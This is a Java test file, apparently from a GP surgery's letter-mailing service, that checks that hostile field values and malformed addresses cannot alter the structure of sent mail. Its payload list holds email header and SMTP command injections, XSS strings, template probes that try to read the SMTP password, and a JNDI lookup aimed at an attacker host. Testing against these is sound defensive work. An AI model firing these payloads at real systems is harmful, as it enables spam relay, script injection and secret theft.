package uk.gpsurgery.conduct.notifier.store;

import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import jakarta.mail.Header;
import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import java.io.IOException;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import uk.gpsurgery.conduct.infra.TestInfra;
import uk.gpsurgery.conduct.kit.Received;
import uk.gpsurgery.conduct.notifier.Asking;
import uk.gpsurgery.conduct.notifier.MailPort;
import uk.gpsurgery.conduct.notifier.letter.Address;
import uk.gpsurgery.conduct.notifier.letter.Draft;
import uk.gpsurgery.conduct.notifier.letter.Form;
import uk.gpsurgery.conduct.notifier.letter.LetterWriter;
import uk.gpsurgery.conduct.notifier.letter.Template;
import uk.gpsurgery.conduct.notifier.mail.Delivery;
import uk.gpsurgery.conduct.notifier.mail.MailCatcher;
import uk.gpsurgery.conduct.notifier.mail.MailCatcher.Caught;
import uk.gpsurgery.conduct.notifier.mail.Postbox;
import uk.gpsurgery.conduct.notifier.mail.SmtpConfig;

/** Whatever stands in a field, it changes its own place in the letter and nothing else. */
@QuarkusTest
@QuarkusTestResource(TestInfra.class)
@QuarkusTestResource(MailPort.class)
class HostileValuesTest {

    /** A field meets one value in so many, the next field the next: between them they meet all. */
    private static final int SHARE = 5;

    private static final Pattern TAG = Pattern.compile("</?[a-z][a-z0-9]*");

    private static final List<String> HOSTILE = List.of(
            "x\r\nBcc: everybody@mail.example",
            "x\nBcc: everybody@mail.example",
            "x\rBcc: everybody@mail.example",
            "x\r\n\r\n<html>another body</html>",
            "x\r\n.\r\nMAIL FROM:<evil@mail.example>",
            "x\u2028Bcc: everybody@mail.example",
            "x\u0085Bcc: everybody@mail.example",
            "x\u000bBcc: y\u000cCc: z",
            "x\u0000y",
            "=?UTF-8?Q?=0D=0ABcc:_everybody@mail.example?=",
            "=?UTF-8?B?DQpCY2M6IGV2ZXJ5Ym9keUBtYWlsLmV4YW1wbGU=?=",
            "x\", evil@mail.example, \"y",
            "x <evil@mail.example>",
            "evil@mail.example, other@mail.example;",
            "(comment) \\\"quoted\\\" group:a@b.example;",
            "<script>alert(1)</script>",
            "</p></main></body></html><h1>Other letter</h1>",
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "&lt;script&gt;",
            "<!-- ",
            "<![CDATA[",
            "<style>main{display:none}</style>",
            "{practiceName}",
            "{#include letters/warning/body.html /}",
            "{#each}{/each}{|raw|}",
            "{cdi:smtpConfig.password}",
            "{config:'conduct.notifier.smtp.password'}",
            "${jndi:ldap://evil.example/a}",
            "%s%n%x #{7*7} ((name)) {{7*7}}",
            "\u202ereversed\u202c \u2066isolated\u2069",
            "zero\u200bwidth\ufeff",
            "\ud800 a lone surrogate",
            "--=_boundary\r\nContent-Type: text/html",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "https://evil.example/\"><script>alert(1)</script>",
            "x".repeat(20_000));

    @Inject
    LetterWriter writer;

    @Inject
    Postbox postbox;

    @Inject
    SmtpConfig smtp;

    @ParameterizedTest
    @EnumSource(Template.class)
    void aHostileValueStaysInItsPlace(Template template) throws Exception {
        try (var catcher = new MailCatcher(smtp.port())) {
            var plain = send(Asking.forA(template, "l-1"), catcher);
            for (var hostile : HOSTILE) {
                assertStructure(plain, send(Asking.forA(template, "l-1").withName(hostile), catcher), true);
            }
            var turn = template.ordinal();
            for (var field : template.fields()) {
                for (var number = turn++ % SHARE; number < HOSTILE.size(); number += SHARE) {
                    var asking = Asking.forA(template, "l-1").withField(field.wireName(), HOSTILE.get(number));
                    assertStructure(plain, send(asking, catcher), field.form() != Form.LINES);
                }
            }
            postbox.rest();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "tracey@mail.example, other@mail.example",
                "tracey@mail.example\r\nRCPT TO:<other@mail.example>",
                "tracey@mail.example>\r\nDATA",
                "<tracey@mail.example>",
                "Tracey <tracey@mail.example>",
                "\"tracey gander\"@mail.example",
                "tracey@mail.example@other.example",
                "tracey@localhost",
                "tracey@-mail.example",
                "tracey@[127.0.0.1]",
                "@mail.example:tracey@other.example",
                "tracey",
                "@",
                " ",
                "tr\u00e4cey@mail.example",
                "tracey@mail\u3002example\u0000"
            })
    void whatIsNotOneAddressIsNone(String written) {
        assertThat(Address.of(written)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"tracey@mail.example", " tracey+nhs@mail.example ", "o'neill@sub.mail.example"})
    void anOrdinaryAddressIsOne(String written) {
        assertThat(Address.of(written)).contains(written.strip());
    }

    @org.junit.jupiter.api.Test
    void anInternationalDomainGoesInAscii() {
        assertThat(Address.of("tracey@b\u00fccher.example")).contains("tracey@xn--bcher-kva.example");
    }

    /** The mail as it arrived; nothing when it was refused, which is a safe answer to any value. */
    private Optional<Caught> send(Asking asking, MailCatcher catcher) {
        var asked = new Received<>("e-1", "Y12345:c-1", "correlation", Instant.EPOCH, null, asking.letter());
        var draft = writer.write(asking.letter(), LocalDate.of(2026, 11, 22), Optional.empty());
        if (draft instanceof Draft.Refused) {
            return Optional.empty();
        }
        var letter = Letter.asked(asked, smtp.domain(), Instant.EPOCH);
        letter.drafted(draft);
        var already = catcher.caught().size();
        assertThat(postbox.send(letter.claim(Instant.EPOCH).mail(Optional.empty()), () -> true))
                .isEqualTo(new Delivery.Taken());
        assertThat(catcher.caught()).hasSize(already + 1);
        return Optional.of(catcher.caught().get(already));
    }

    private static void assertStructure(Optional<Caught> plain, Optional<Caught> mail, boolean sameLines)
            throws MessagingException, IOException {
        if (mail.isEmpty()) {
            return;
        }
        var expected = plain.orElseThrow();
        var found = mail.get();
        assertThat(found.to()).isEqualTo(expected.to());
        assertThat(found.from()).isEqualTo(expected.from());
        assertThat(headers(found.message())).isEqualTo(headers(expected.message()));
        assertThat(found.message().getAllRecipients()).hasSize(1);
        assertThat(found.message().getFrom()).hasSize(1);
        assertThat(parts(found)).isEqualTo(parts(expected));
        assertThat(found.message().getSubject()).doesNotContain("\r", "\n");
        if (sameLines) {
            assertThat(tags(found)).isEqualTo(tags(expected));
            assertThat(body(found, 0).lines())
                    .hasSize((int) body(expected, 0).lines().count());
        } else {
            assertThat(tags(expected)).containsAll(tags(found));
        }
        assertThat(body(found, 1)).doesNotContain("<script", "<img", "href=\"javascript", "href=\"data");
    }

    private static List<String> headers(MimeMessage message) throws MessagingException {
        var names = new ArrayList<String>();
        for (Header header : Collections.list(message.getAllHeaders())) {
            names.add(header.getName());
        }
        return names;
    }

    private static List<String> parts(Caught mail) throws MessagingException, IOException {
        var content = (MimeMultipart) mail.message().getContent();
        var kinds = new ArrayList<String>();
        for (var number = 0; number < content.getCount(); number++) {
            kinds.add(content.getBodyPart(number).getContentType());
        }
        return kinds;
    }

    private static String body(Caught mail, int part) throws MessagingException, IOException {
        return (String)
                ((MimeMultipart) mail.message().getContent()).getBodyPart(part).getContent();
    }

    private static List<String> tags(Caught mail) throws MessagingException, IOException {
        return TAG.matcher(body(mail, 1)).results().map(found -> found.group()).toList();
    }
}
